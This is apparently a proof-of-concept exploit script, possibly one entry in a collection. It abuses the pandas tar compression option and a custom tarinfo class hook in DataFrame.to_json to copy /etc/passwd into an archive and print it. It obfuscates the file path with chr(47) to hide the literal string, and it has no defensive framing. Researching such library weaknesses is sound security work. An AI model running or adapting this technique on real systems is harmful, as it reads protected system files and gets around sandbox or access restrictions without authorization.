# source: pandas io/common.py get_handle tar branch (used by every to_* writer too); CPython tarfile TarFile(tarinfo=...) / TarFile.add
# family: compression dict on a WRITER (DataFrame.to_json) with {"method": "tar", "mode": "a", "tarinfo": Cls}
# goal: reads /etc/passwd via TarFile.add into a relative file, prints it
import pandas as pd

df = pd.DataFrame({"a": [1]})
df.to_json("z.tar", compression="tar")
P = chr(47) + "etc" + chr(47) + "passwd"


class TI:
    @classmethod
    def fromtarfile(cls, tf):
        tf.add(P)
        raise KeyError("stop")

    def isreg(self):
        return True

    def tobuf(self, fmt, enc, err):
        return b""


try:
    df.to_json("z.tar", compression={"method": "tar", "mode": "a", "tarinfo": TI})
except KeyError as e:
    print("to_json raised", e)
print(pd.read_fwf("z.tar", compression=None, header=None, widths=[200], nrows=5, encoding="latin1").to_string())
